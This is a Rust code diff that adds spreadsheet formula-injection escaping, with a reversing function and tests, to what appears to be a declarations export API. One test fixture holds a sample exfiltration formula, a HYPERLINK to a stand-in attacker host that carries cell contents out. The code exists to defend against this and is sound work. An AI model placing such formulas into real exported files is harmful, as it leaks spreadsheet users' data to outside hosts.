@@ -3,6 +3,34 @@
 
 use crate::declaration::Status;
 use serde::{Deserialize, Serialize};
+use std::borrow::Cow;
+
+/// Characters that make a spreadsheet read a cell as a formula (or, for
+/// tab and carriage return, hide one), after OWASP's advice on CSV
+/// injection; and the apostrophe that marks a cell as text, so that the
+/// marking can be undone exactly.
+const SPREADSHEET_ACTIVE: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];
+
+/// A cell a spreadsheet opens as text, never as a formula: one that starts
+/// with `=`, `+`, `-`, `@`, a tab, a carriage return or an apostrophe gets
+/// a leading apostrophe, which spreadsheets show as nothing.
+pub fn spreadsheet_cell(text: &str) -> Cow<'_, str> {
+    if text.starts_with(SPREADSHEET_ACTIVE) {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        Cow::Borrowed(text)
+    }
+}
+
+/// The text of a cell written by [`spreadsheet_cell`] (or typed the same
+/// way in a spreadsheet): a leading apostrophe before one of those
+/// characters goes; anything else is as it was.
+pub fn read_spreadsheet_cell(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(SPREADSHEET_ACTIVE) => rest,
+        _ => cell,
+    }
+}
 
 /// `POST /api/operator/export`: which declarations, and whether to mark the
 /// exported ones `under_verification` in the same transaction.
@@ -89,4 +117,30 @@ pub struct RowError {
     pub row: usize,
     pub column: String,
     pub code: String,
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    #[test]
+    fn formulas_become_text() {
+        let link = r#"=HYPERLINK("https://evil.example/?"&C2&D2,"voir")"#;
+        assert_eq!(spreadsheet_cell(link), format!("'{link}"));
+        for active in ["+212600", "-1", "@SUM(A1)", "\tx", "\rx", "'quoted"] {
+            assert!(spreadsheet_cell(active).starts_with('\''), "{active:?}");
+        }
+        assert_eq!(spreadsheet_cell("El Amrani"), "El Amrani");
+        assert_eq!(spreadsheet_cell("العمراني"), "العمراني");
+        assert_eq!(read_spreadsheet_cell("'abc"), "'abc");
+    }
+
+    proptest! {
+        #[test]
+        fn every_cell_reads_back(text in "\\PC{0,12}|['=+@\\t\\r-]{1,3}\\PC{0,6}") {
+            let cell = spreadsheet_cell(&text);
+            prop_assert_eq!(read_spreadsheet_cell(&cell), text.as_str());
+        }
+    }
 }
